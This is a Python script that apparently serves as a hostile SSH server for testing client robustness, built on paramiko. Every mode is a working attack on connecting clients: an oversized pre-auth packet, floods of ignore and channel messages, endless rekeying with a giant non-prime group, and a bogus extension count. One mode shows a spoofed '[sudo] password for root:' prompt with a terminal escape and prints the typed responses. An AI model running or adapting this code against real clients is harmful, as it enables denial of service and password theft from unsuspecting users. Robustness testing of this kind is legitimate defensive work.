"""An SSH server that does what no sshd does, in place of a node's own: `hostile_sshd.py HOW KEY`.

length    a packet of 1 GiB before anybody has logged in
ignored   messages that mean nothing, after the keys are agreed, as fast as a connection takes them
window    a command's output without heed to the room that the client has left
rekey     agrees on new keys again and again, by the largest group there is
count     a packet that announces four billion pairs and has none
asks      after the key, questions for whoever sits at the terminal
"""

import contextlib
import os
import socket
import sys
import threading
import time

import paramiko
from paramiko import common, kex_gex

#: Messages that are made before the first of them is sent.
MANY = 2000
#: Bytes of output beyond any window.
MUCH = 1 << 30


class Anybody(paramiko.ServerInterface):
    """Lets everybody in, and says yes to everything."""

    def __init__(self, asks: bool) -> None:
        self.asks, self.asked = asks, threading.Event()
        self.channel: paramiko.Channel | None = None

    def get_allowed_auths(self, username: str) -> str:
        return "publickey,keyboard-interactive" if self.asks else "publickey"

    def check_auth_publickey(self, username: str, key: paramiko.PKey) -> int:
        return paramiko.AUTH_PARTIALLY_SUCCESSFUL if self.asks else paramiko.AUTH_SUCCESSFUL

    def check_auth_interactive(self, username: str, submethods: str) -> paramiko.InteractiveQuery:
        return paramiko.InteractiveQuery("\x1b]0;x\x07nodeready", "", "[sudo] password for root:")

    def check_auth_interactive_response(self, responses: list[str]) -> int:
        print("told", responses, flush=True)
        return paramiko.AUTH_SUCCESSFUL

    def check_channel_request(self, kind: str, chanid: int) -> int:
        return paramiko.OPEN_SUCCEEDED

    def check_channel_forward_agent_request(self, channel: paramiko.Channel) -> bool:
        print("agent", flush=True)
        return True

    def check_channel_exec_request(self, channel: paramiko.Channel, command: bytes) -> bool:
        self.channel = channel
        self.asked.set()
        return True


class Kept:
    """In place of a socket: keeps what is written."""

    def __init__(self) -> None:
        self.data = bytearray()

    def send(self, data: bytes) -> int:
        self.data += data
        return len(data)


def ignored(transport: paramiko.Transport) -> None:
    """Messages that mean nothing, many with one call, so that they come faster than read."""
    packets = transport.packetizer
    real, kept = packets._Packetizer__socket, Kept()
    message = paramiko.Message()
    message.add_byte(common.cMSG_IGNORE)
    message.add_string(b"")
    real.settimeout(None)
    with packets._Packetizer__write_lock:
        packets._Packetizer__socket = kept
        while True:
            for _ in range(MANY):
                packets.send_message(message)
            real.sendall(kept.data)
            kept.data.clear()


def window(server: Anybody, transport: paramiko.Transport) -> None:
    server.asked.wait()
    message = paramiko.Message()
    message.add_byte(common.cMSG_CHANNEL_DATA)
    message.add_int(server.channel.remote_chanid)
    message.add_string(b"A" * 32000)
    for _ in range(MUCH // 32000):
        transport._send_message(message)


class Largest(kex_gex.KexGexSHA256):
    """Offers one group, of 8192 bits: nobody asks whether the number is a prime."""

    P = int.from_bytes(os.urandom(1024), "big") | 1 | 1 << 8191

    def _generate_x(self) -> None:
        # Its own part of the work is small.
        self.x = int.from_bytes(os.urandom(32), "big")

    def _parse_kexdh_gex_request(self, m: paramiko.Message) -> None:
        self.min_bits, self.preferred_bits, self.max_bits = m.get_int(), m.get_int(), m.get_int()
        self.g, self.p = 2, self.P
        message = paramiko.Message()
        message.add_byte(kex_gex.c_MSG_KEXDH_GEX_GROUP)
        message.add_mpint(self.p)
        message.add_mpint(self.g)
        self.transport._send_message(message)
        self.transport._expect_packet(kex_gex._MSG_KEXDH_GEX_INIT)


class Server(paramiko.Transport):
    _kex_info = {**paramiko.Transport._kex_info, Largest.name: Largest}
    again = False

    def _parse_newkeys(self, m: paramiko.Message) -> None:
        super()._parse_newkeys(m)
        if self.again:
            self._send_kex_init()


def serve(one: socket.socket, how: str, key: paramiko.PKey) -> None:
    if how == "length":
        one.sendall(b"SSH-2.0-OpenSSH_9.6\r\n" + (1 << 30 | 4).to_bytes(4, "big"))
        while True:
            one.sendall(b"A" * (1 << 20))
    server, transport = Anybody(how == "asks"), Server(one)
    transport.add_server_key(key)
    if how == "rekey":
        transport._preferred_kex = (Largest.name,)
    transport.start_server(server=server)
    if how == "ignored":
        while not transport.is_authenticated():
            time.sleep(0.01)
        ignored(transport)
    elif how == "window":
        window(server, transport)
    elif how == "rekey":
        server.asked.wait()
        transport.again = True
        transport._send_kex_init()
    elif how == "count":
        message = paramiko.Message()
        message.add_byte(common.cMSG_EXT_INFO)
        message.add_int((1 << 32) - 1)
        server.asked.wait()
        transport._send_message(message)
    transport.join()


def main(how: str, path: str) -> None:
    key = paramiko.Ed25519Key.from_private_key_file(path)
    listener = socket.create_server(("", 22))

    def take(one: socket.socket) -> None:
        with contextlib.suppress(OSError, EOFError, paramiko.SSHException):
            serve(one, how, key)

    print("listening", flush=True)
    while True:
        one, _ = listener.accept()
        threading.Thread(target=take, args=(one,), daemon=True).start()


if __name__ == "__main__":
    main(*sys.argv[1:])
